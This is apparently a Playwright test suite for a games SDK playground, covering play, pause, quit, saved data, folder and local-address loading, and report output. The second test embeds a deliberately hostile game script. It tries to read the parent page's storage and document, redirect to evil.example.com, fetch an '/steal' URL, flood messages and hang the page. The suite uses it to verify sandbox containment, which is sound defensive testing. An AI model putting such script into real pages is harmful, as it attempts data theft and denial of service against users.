import { expect } from '@playwright/test';
import { gameJoinCommand } from '@orange-id/contract/games.guide';
import { execFile } from 'node:child_process';
import { copyFile, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { promisify } from 'node:util';
import { machineTest as test } from '../fixtures/machine';
import { freePort } from '../fixtures/portal.process';
import { plainGame, startBareHost } from '../fixtures/wire.games';
import { PlaygroundPage, playgroundPath, withPartitionedStorage } from '../pages/playground.page';

test.use(withPartitionedStorage);

test('the sample game is played, paused, goes on and quits, and its data comes back after a reload', async ({
  page,
  machine,
}) => {
  const playground = new PlaygroundPage(page);
  await page.goto('/games-sdk-integration-guide');
  await page.getByRole('link', { name: 'Open the playground' }).click();
  await expect(playground.state).toHaveAttribute('data-state', 'playing');
  await expect(playground.check('Reports that it has loaded')).toContainText('Passed');
  // The game doesn't take the focus, which would scroll the page.
  expect(await page.evaluate(() => [scrollY, document.activeElement?.tagName === 'IFRAME'])).toEqual([
    0,
    false,
  ]);
  const canvas = playground.game.locator('canvas');
  await canvas.click();
  await playground.button('Pause').click();
  await expect(playground.state).toHaveAttribute('data-state', 'paused');
  await playground.button('Resume').click();
  await expect(playground.state).toHaveAttribute('data-state', 'playing');
  await canvas.press('p');
  await expect(playground.state).toHaveAttribute('data-state', 'paused');
  await expect(playground.check('Answers pause')).toContainText('Passed');
  await canvas.press('p');
  // Nobody moves the basket: the oranges are missed.
  await expect(playground.state).toHaveAttribute('data-state', 'over', { timeout: 40_000 });
  await expect(playground.check('Saves data')).toContainText('Saved once');
  await playground.button('Quit').click();
  await expect(playground.state).toHaveAttribute('data-state', 'closed');
  await expect(playground.check('Answers quit')).toContainText('Passed');
  await machine('gameHost').visits('quitting');
  await page.reload();
  await page.getByText('Saved data', { exact: true }).click();
  await expect(page.getByText('"coins"')).toBeVisible();
});

test('a hostile game is contained: the page stays responsive, and the checks name what it did', async ({
  page,
}) => {
  const playground = new PlaygroundPage(page);
  await page.goto(playgroundPath);
  await playground.openFiles({
    'index.html': `<!doctype html><head></head><body><script src="game.js"></script>`,
    'game.js': `
      const tell = (event_type, payload) => parent.postMessage({ event_type, payload }, '*');
      const tried = [];
      const attempt = (name, work) => { try { tried.push(name + ': ' + work()); } catch { tried.push(name + ': refused'); } };
      attempt('storage', () => parent.localStorage.length);
      attempt('document', () => parent.document.title);
      attempt('window', () => open('https://evil.example.com/') === null ? 'refused' : 'opened');
      attempt('top', () => { top.location.href = 'https://evil.example.com/'; return 'asked'; });
      fetch('https://evil.example.com/steal').then(() => tried.push('fetch: sent'), () => tried.push('fetch: refused')).then(() => {
        tell('GG_UPDATE_GAME_DATA', { data: tried });
        tell('GG_GAME_OVER', { score: Infinity });
        for (let sent = 0; sent < 1000; sent++) tell('GG_PAUSED_FROM_GAME');
        setTimeout(() => { for (;;); }, 100);
      });`,
  });
  await expect(playground.check('A reasonable number of messages')).toContainText('Failed');
  await expect(playground.check('Sends a score')).toContainText('Not a finite number');
  await expect(playground.check('No request to another origin')).toContainText(
    'https://evil.example.com/steal',
  );
  // The game loops by now: its process does not answer, this page does.
  await page.getByText('Saved data', { exact: true }).click();
  const saved = await page.locator('pre').textContent();
  expect(JSON.parse(String(saved))).toEqual([
    'storage: refused',
    'document: refused',
    'window: refused',
    expect.stringMatching(/^top: /),
    'fetch: refused',
  ]);
  expect(new URL(page.url()).pathname).toBe(playgroundPath);
  await playground.button('Quit').click();
  await expect(playground.state).toHaveAttribute('data-state', 'closed');
  await page.getByText(/^Checks/).click();
  await expect(playground.check('Answers quit')).toContainText('No answer');
});

test('a game that knows only the messages runs in the playground, and a game with the SDK in a host that knows only them', async ({
  page,
  baseURL,
}) => {
  const playground = new PlaygroundPage(page);
  await test.step('a plain game, which posts to the outermost page, passes', async () => {
    await page.goto(playgroundPath);
    await playground.openFiles({ 'index.html': plainGame });
    const game = playground.game;
    await expect(game.getByText('Best 0')).toBeVisible();
    await game.getByRole('button', { name: 'Finish a round' }).click();
    await expect(playground.check('Sends a score')).toContainText('Passed');
    await playground.button('Restart').click();
    await expect(game.getByText('Best 5')).toBeVisible();
    await playground.button('Quit').click();
    await expect(playground.state).toHaveAttribute('data-state', 'closed');
    await expect(playground.check('Answers quit')).toContainText('Passed');
  });

  await test.step('a bare host gets the messages of a game with the SDK', async () => {
    const port = await freePort();
    const host = await startBareHost(baseURL as string, port);
    try {
      await page.goto(`http://localhost:${port}/`);
      await expect(page.getByRole('listitem')).toHaveText([
        'GG_GET_GAME_DATA {"defaultData":{"best":0}}',
        'GG_GAME_LOAD_FINISHED null',
      ]);
      await expect(page.frameLocator('iframe').getByText('unknown')).toBeVisible();
      await page.getByRole('button', { name: 'Quit' }).click();
      await expect(page.getByRole('listitem')).toHaveCount(4);
      await expect(page.getByRole('listitem').nth(2)).toHaveText('GG_GAME_OVER {"score":8}');
      await expect(page.getByRole('listitem').nth(3)).toHaveText('GG_UPDATE_GAME_DATA {"data":{"best":8}}');
    } finally {
      await host.close();
    }
  });
});

test('in the guide a folder plays muted and on a slow network, a local address plays with the checks that it allows, and the report prints alone', async ({
  page,
  machine,
}) => {
  const playground = new PlaygroundPage(page);
  await page.goto('/games-sdk-integration-guide#playground');
  await page.getByRole('button', { name: 'Play the sample here' }).click();
  await machine('gameHost').is('playing');

  const folder = await mkdtemp(join(tmpdir(), 'game-'));
  try {
    await test.step('a folder', async () => {
      await writeFile(
        join(folder, 'index.html'),
        '<!doctype html><body><output></output><script src="game.js"></script>',
      );
      await writeFile(
        join(folder, 'game.js'),
        `const sound = new Audio();
         sound.play().catch(() => {});
         parent.postMessage({ event_type: 'GG_GAME_LOAD_FINISHED' }, '*');
         setInterval(() => (document.querySelector('output').textContent = 'Muted: ' + sound.muted), 50);`,
      );
      await page.getByText('Your files', { exact: true }).click();
      await page.getByTestId('folder').setInputFiles(folder);
      await expect(playground.game.getByText('Muted: false')).toBeVisible();
      await expect(playground.check('One minified script')).toContainText('game.js');
      await expect(playground.check('No error in the console')).toContainText('Passed');
    });

    await test.step('mute, and a slow network: each file takes 0.8 s', async () => {
      await page.getByRole('switch', { name: 'Mute' }).click();
      await expect(playground.game.getByText('Muted: true')).toBeVisible();
      await page.getByRole('switch', { name: 'Slow network' }).click();
      await expect(playground.check('Reports that it has loaded')).toContainText('Passed');
      const found = await playground.check('Reports that it has loaded').textContent();
      expect(Number(/After ([\d.]+) s/.exec(String(found))?.[1])).toBeGreaterThanOrEqual(1.6);
    });
  } finally {
    await rm(folder, { recursive: true });
  }

  const server = createServer((_, response) => {
    response.setHeader('content-type', 'text/html').end(plainGame);
  });
  const port = await freePort();
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  try {
    await test.step('a local address', async () => {
      await page.getByText('Local address', { exact: true }).click();
      await page.getByRole('textbox', { name: 'Address of the game' }).fill(`http://localhost:${port}/`);
      await playground.button('Open').click();
      await playground.game.getByRole('button', { name: 'Finish a round' }).click();
      await expect(playground.check('Sends a score')).toContainText('Passed');
      await expect(playground.check(/^Size/)).toContainText('Not checkedUse a zip or a folder');
      await expect(page.getByRole('switch')).toHaveCount(0);
    });

    await test.step('full screen, which the developer judges', async () => {
      await playground.button('Full screen').click();
      await expect(playground.check('Works in full screen')).toContainText('Does the game fill the screen?');
      await page.evaluate(() => document.exitFullscreen());
      await playground.check('Works in full screen').getByRole('button', { name: 'Yes' }).click();
      await expect(playground.check('Works in full screen')).toContainText('Passed');
    });
  } finally {
    server.closeAllConnections();
    server.close();
  }

  await test.step('a local address whose server has stopped', async () => {
    await playground.button('Restart').click();
    await machine('gameHost').is('unanswered');
    await expect(page.getByRole('alert')).toHaveText(
      `Nothing answered at http://localhost:${port}. Is your server running?`,
    );
  });

  await test.step('the printed report', async () => {
    await page.evaluate(() => (window.print = () => {}));
    await playground.button('Print report').click();
    await expect(page.getByRole('heading', { name: /^Report on the game/ })).toBeHidden();
    await page.emulateMedia({ media: 'print' });
    await expect(page.getByRole('heading')).toHaveText([`Report on the game “http://localhost:${port}”`]);
    await expect(page.getByRole('row', { name: /^Sends a score Waiting Finish a round / })).toBeVisible();
    await expect(page.getByRole('banner')).toBeHidden();
  });
});

test('a game that is joined with the build file by the guide’s command gets a clean report', async ({
  page,
}) => {
  const root = join(import.meta.dirname, '../..');
  const folder = await mkdtemp(join(tmpdir(), 'game-'));
  let script: string;
  try {
    await copyFile(join(root, 'frontend/dist/sdk/orange-game.js'), join(folder, 'orange-game.js'));
    await writeFile(
      join(folder, 'game.js'),
      `const game = OrangeGame.createGame();
       let saved = { best: 0 };
       document.querySelector('button').addEventListener('click', async () => {
         await game.gameOver(5);
         saved = { best: 5 };
         await game.saveGameData(saved);
       });
       game.on('pause', () => game.gamePaused());
       game.on('resume', () => game.gameResumed());
       game.onQuit(() => ({ score: 5, data: saved }));
       game.getGameData(saved).then((data) => {
         saved = data;
         return game.gameLoaded();
       });`,
    );
    await promisify(execFile)('sh', ['-c', gameJoinCommand.replace('npx ', '')], {
      cwd: folder,
      env: { ...process.env, PATH: [join(root, 'node_modules/.bin'), process.env['PATH']].join(delimiter) },
    });
    script = await readFile(join(folder, 'game.min.js'), 'utf8');
  } finally {
    await rm(folder, { recursive: true });
  }

  const playground = new PlaygroundPage(page);
  await page.goto(playgroundPath);
  await playground.openFiles({
    'index.html':
      '<!doctype html><body><button>Finish a round</button><script src="game.min.js"></script></body>',
    'game.min.js': script,
  });
  await playground.game.getByRole('button', { name: 'Finish a round' }).click();
  await expect(playground.check('Saves data')).toContainText('Saved once');
  await playground.button('Pause').click();
  await expect(playground.check('Answers pause')).toContainText('Passed');
  await playground.button('Resume').click();
  await playground.button('Full screen').click();
  await expect(playground.check('Works in full screen')).toContainText('Check yourself');
  await page.evaluate(() => document.exitFullscreen());
  await playground.check('Works in full screen').getByRole('button', { name: 'Yes' }).click();
  await playground.button('Quit').click();
  await expect(page.getByRole('status', { name: 'Summary' })).toHaveText('12 of 12 passed');

  const download = page.waitForEvent('download');
  await playground.button('Download report').click();
  const report = JSON.parse(await readFile(await (await download).path(), 'utf8')) as {
    game: string;
    checks: { result: string }[];
  };
  expect(report.game).toBe('game.zip');
  expect(new Set(report.checks.map(({ result }) => result))).toEqual(new Set(['passed']));
});
